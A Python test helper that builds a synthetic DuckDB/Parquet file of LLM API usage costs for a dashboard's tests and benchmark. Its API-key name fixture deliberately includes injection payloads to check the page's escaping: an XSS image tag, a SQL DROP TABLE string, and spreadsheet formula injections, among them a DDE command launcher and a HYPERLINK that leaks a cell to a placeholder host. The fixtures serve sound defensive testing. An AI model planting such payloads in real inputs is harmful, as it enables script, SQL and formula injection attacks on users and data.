"""A serving file in the shape of marts.md, built directly in SQL: for the page's tests and benchmark.

The real pipeline takes about a minute per run on 2 cores; the page only reads the published file, so
its tests build one here instead: a synthetic ``fct_cost`` (deterministic, from ``hash(i)``), the
aggregates of every grain grouped from it exactly as ``dbt_project/macros/cost_marts.sql`` defines
them (pay-as-you-go only, costs DECIMAL(38,18), counts BIGINT), ``provider_alternatives_<grain>``
(daily, monthly) when asked, and ``meta.publication``. Like ``orchestration/publish.py`` the tables
are Parquet files (one per day, or per month for monthly tables) behind views in schema ``marts``.

What the data holds, for the tests: 3 accounts, 12 API keys (one key of an account with no name,
names with CJK, quotes, commas, Markdown, HTML and spreadsheet formulas), 8 models (two served by two providers), both
billing modes, and no usage in the hours 02:00 and 03:00 UTC (gaps a chart must show).

``python tests/dashboard_serving.py OUT --requests N --days D`` writes one from the command line.
"""

from __future__ import annotations

import argparse
import shutil
import sys
from datetime import date
from decimal import Decimal
from pathlib import Path

import duckdb

from meterline.contract import MART_GRAINS, MEASURES

# The aggregate marts the page reads: marts.md's grains, without the cheaper-provider marts.
SHAPES = {family: dims for family, dims in MART_GRAINS.items() if family != "provider_alternatives"}
UNITS = {"hourly": "hour", "daily": "day", "monthly": "month"}

# (api_key_id, account_id, current name): shown names include every character a page can get wrong.
KEYS = (
    ("key_prod_01", "acct_alpha", "Production"),
    ("key_batch_02", "acct_alpha", "数据团队 🚀"),
    ("key_html_03", "acct_alpha", "<img src=x onerror=alert(1)>"),
    ("key_quote_04", "acct_alpha", 'a "quoted", name'),
    ("key_md_05", "acct_beta", "*bold* _it_ `code` [link](http://x)"),
    ("key_noname_06", "acct_beta", None),
    ("key_research_07", "acct_beta", "Research · 研究"),
    ("key_ci_08", "acct_beta", "C:\\ci\\nightly"),
    ("key_eval_09", "acct_gamma", '=HYPERLINK("http://x/?leak="&A1,"Click")'),
    ("key_bot_10", "acct_gamma", "@SUM(1+1)"),
    ("key_sql_11", "acct_gamma", "'); DROP TABLE marts.cost_cube; --"),
    ("key_rare_12", "acct_gamma", "=cmd|' /C calc'!A0"),
)
# (model, provider, model_type, purpose, input $/Mtok, output $/Mtok, $ per request): nano-dollars exact.
MODELS = (
    ("openai/gpt-5", "openai", "LLM", "chat", "1.25", "10", "0"),
    ("openai/gpt-5", "azure", "LLM", "chat", "1.375", "11", "0"),
    ("anthropic/claude-sonnet-4-5", "anthropic", "LLM", "agent", "3", "15", "0"),
    ("anthropic/claude-sonnet-4-5", "amazon-bedrock", "LLM", "agent", "3.3", "16.5", "0"),
    ("google/gemini-3-pro-preview", "google-vertex", "LLM", "reasoning", "2", "12", "0.035"),
    ("openai/gpt-5-mini", "openai", "LLM", "chat", "0.25", "2", "0"),
    ("openai/text-embedding-3-small", "openai", "Embedding", "embedding", "0.02", "0", "0"),
    ("openai/gpt-image-1", "openai", "Vision", "image generation", "5", "40", "0.04"),
    ("google/text-embedding-005", "google-vertex", "Embedding", "embedding", "0.025", "0", "0"),
    ("mistral/mistral-large", "mistral", "LLM", "chat", "2", "6", "0"),
)


def _exact_divide(numerator: str, denominator: str) -> str:
    """numerator / denominator as DECIMAL(38,18) rounded half up (dbt_project/macros/money.sql)."""
    scale = "1000000000000000000"
    fraction = f"cast(({numerator} - floor({numerator})) * {scale} as hugeint)"
    units = f"(cast(floor({numerator}) as hugeint) * {scale} + {fraction})"
    rounded = f"(({units} * 2 + cast({denominator} as hugeint)) // (cast({denominator} as hugeint) * 2))"
    return (
        f"case when {denominator} <> 0 then cast(cast({rounded} // {scale} as decimal(38, 0)) "
        f"+ cast({rounded} % {scale} as decimal(38, 0)) * 0.000000000000000001 as decimal(38, 18)) end"
    )


def _fct_cost_sql(requests: int, start: date, days: int) -> str:
    keys = ", ".join(f"({i}, '{k}', '{a}', {'NULL' if n is None else repr_sql(n)})" for i, (k, a, n) in enumerate(KEYS))
    models = ", ".join(
        f"({i}, '{m}', '{p}', '{t}', '{u}', {_nanos(ip)}, {_nanos(op)}, {_nanos(rp, 1)})"
        for i, (m, p, t, u, ip, op, rp) in enumerate(MODELS)
    )
    # Key 11 (rarely used) makes 1 request in 500; model 9 (mistral) only through acct_gamma's keys.
    return f"""
    create table fct_cost as
    with k(k, api_key_id, account_id, api_key_name) as (values {keys}),
    m(m, model, provider, model_type, purpose, input_nanos, output_nanos, request_nanos) as (values {models}),
    r as (
        select i,
            hash(i, 'key') % 500 as key_draw,
            hash(i, 'model') % 10 as m,
            hash(i, 'second') % {days * 86400} as second,
            hash(i, 'tokens') as t
        from range({requests}) as s(i)
    ), drawn as (
        select i, t,
            case when key_draw = 0 then 11 else key_draw % 11 end as k,
            case when m = 9 and key_draw % 11 not in (8, 9, 10) then 0 else m end as m,
            -- no usage at 02:00 and 03:00 UTC: those hours move to 04:00 and 05:00
            second + case when second % 86400 // 3600 in (2, 3) then 7200 else 0 end as second
        from r
    )
    select
        'req-' || i as request_id,
        timestamp '{start.isoformat()}' + to_seconds(second) as created_at,
        cast(timestamp '{start.isoformat()}' + to_seconds(second) as date) as arrival_date,
        account_id, api_key_id, api_key_name, model, provider, NULL::varchar as region, model_type, purpose,
        'chat.completions' as endpoint,
        case when t % 20 = 0 then 'subscription' else 'payg' end as billing_mode,
        1::bigint as request_count,
        (100 + t % 4000)::bigint as input_tokens,
        ((100 + t % 4000) // 10)::bigint as cached_input_tokens,
        0::bigint as cache_write_tokens,
        case when output_nanos = 0 then 0 else (t // 7) % 1500 end::bigint as output_tokens,
        0::bigint as reasoning_tokens,
        case when model_type = 'Vision' then 1 else 0 end::bigint as images,
        0::bigint as web_search_calls,
        cast(cast((100 + t % 4000) * input_nanos as decimal(38, 0)) * 0.000000001 as decimal(38, 18))
            as input_cost,
        cast(cast(case when output_nanos = 0 then 0 else (t // 7) % 1500 end * output_nanos as decimal(38, 0))
            * 0.000000001 as decimal(38, 18)) as output_cost,
        cast(cast(request_nanos as decimal(38, 0)) * 0.000000001 as decimal(38, 18)) as other_cost,
        date '2020-01-01'::timestamp as price_effective_from
    from drawn join k using (k) join m using (m)
    """


def repr_sql(text: str) -> str:
    return "'" + text.replace("'", "''") + "'"


def _nanos(dollars: str, per: int = 1_000_000) -> int:
    """Dollars per `per` units (a million tokens, or 1 request) as nano-dollars per unit (exact here)."""
    return int(Decimal(dollars) * 1_000_000_000 / per)


def build_serving(
    path: Path, requests: int = 20_000, start: date = date(2026, 10, 20), days: int = 20, alternatives: bool = True
) -> Path:
    """Write a serving file at `path` (a folder `<path>.parts` beside it holds the Parquet files)."""
    parts = path.with_name(path.name + ".parts")
    shutil.rmtree(parts, ignore_errors=True)
    path.unlink(missing_ok=True)
    path.parent.mkdir(parents=True, exist_ok=True)
    with duckdb.connect() as con:
        con.execute("set preserve_insertion_order = false")
        con.execute(_fct_cost_sql(requests, start, days))
        con.execute(
            "create or replace table fct_cost as select * exclude (price_effective_from), "
            "cast(input_cost + output_cost + other_cost as decimal(38, 18)) as total_cost, price_effective_from "
            "from fct_cost"
        )
        tables = {"fct_cost": "select * from fct_cost"}
        sums = ", ".join(
            f"cast(sum({m}) as {'decimal(38, 18)' if m.endswith('_cost') else 'bigint'}) as {m}" for m in MEASURES
        )
        for grain, unit in UNITS.items():
            cube = ", ".join(SHAPES["cost_cube"])
            con.execute(
                f"create table cost_cube_{grain} as select "
                f"date_trunc('{unit}', created_at)::timestamp as period_start, {cube}, {sums} "
                "from fct_cost where billing_mode = 'payg' group by all"
            )
            for table, dims in SHAPES.items():
                averages = ""
                if table == "cost_overview":
                    averages = (
                        f", {_exact_divide('total_cost', 'request_count')} as avg_cost_per_request, "
                        f"{_exact_divide('total_cost * 1000', 'input_tokens + output_tokens')} "
                        "as avg_cost_per_1k_tokens"
                    )
                elif table == "provider_model_details":
                    averages = f", {_exact_divide('total_cost', 'request_count')} as avg_cost_per_request"
                tables[f"{table}_{grain}"] = (
                    f"select *{averages} from (select period_start, {', '.join(dims)}, {sums} "
                    f"from cost_cube_{grain} group by all)"
                )
            if alternatives and grain != "hourly":
                tables[f"provider_alternatives_{grain}"] = _alternatives_sql(unit)
        for table, sql in tables.items():
            folder = parts / table
            folder.mkdir(parents=True)
            by = "month" if table.endswith("_monthly") else "day"
            column = "created_at" if table == "fct_cost" else "period_start"
            con.execute(
                f"copy (select *, cast(date_trunc('{by}', {column}) as date) as partition_key from ({sql})) "
                f"to '{folder}' (format parquet, partition_by (partition_key))"
            )
    with duckdb.connect(str(path)) as serving:
        serving.execute("create schema marts; create schema meta")
        serving.execute(
            "create table meta.publication as select 'synthetic' as version, now()::timestamp as published_at"
        )
        for table in tables:
            files = sorted(str(f) for f in (parts / table).rglob("*.parquet"))
            listed = ", ".join(repr_sql(f) for f in files)
            serving.execute(
                f"create view marts.{table} as select * from read_parquet([{listed}], hive_partitioning = false)"
            )
        serving.execute("checkpoint")
    return path


def _alternatives_sql(unit: str) -> str:
    """marts.md's provider_alternatives: the same requests priced by each other provider of the model."""
    prices = ", ".join(
        f"('{m}', '{p}', {_nanos(ip)}, {_nanos(op)}, {_nanos(rp, 1)})" for m, p, _, _, ip, op, rp in MODELS
    )
    return f"""
    with p(model, provider, input_nanos, output_nanos, request_nanos) as (values {prices}),
    priced as (
        select date_trunc('{unit}', f.created_at)::timestamp as period_start, f.account_id, f.model, f.provider,
            a.provider as alternative_provider, f.total_cost,
            cast(cast(f.input_tokens * a.input_nanos + f.output_tokens * a.output_nanos as decimal(38, 0))
                * 0.000000001 + cast(a.request_nanos as decimal(38, 0)) * 0.000000001 as decimal(38, 18))
                as alternative_cost
        from fct_cost f join p a on a.model = f.model and a.provider <> f.provider
        where f.billing_mode = 'payg'
    )
    select period_start, account_id, model, provider, alternative_provider,
        count(*)::bigint as request_count,
        cast(sum(total_cost) as decimal(38, 18)) as actual_cost,
        cast(sum(alternative_cost) as decimal(38, 18)) as alternative_cost,
        cast(sum(total_cost) - sum(alternative_cost) as decimal(38, 18)) as savings
    from priced group by all
    """


def main(argv: list[str] | None = None) -> int:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("out", type=Path)
    parser.add_argument("--requests", type=int, default=20_000)
    parser.add_argument("--days", type=int, default=20)
    parser.add_argument("--start", type=date.fromisoformat, default=date(2026, 10, 20))
    args = parser.parse_args(argv)
    build_serving(args.out, args.requests, args.start, args.days)
    print(args.out)
    return 0


if __name__ == "__main__":
    sys.exit(main())
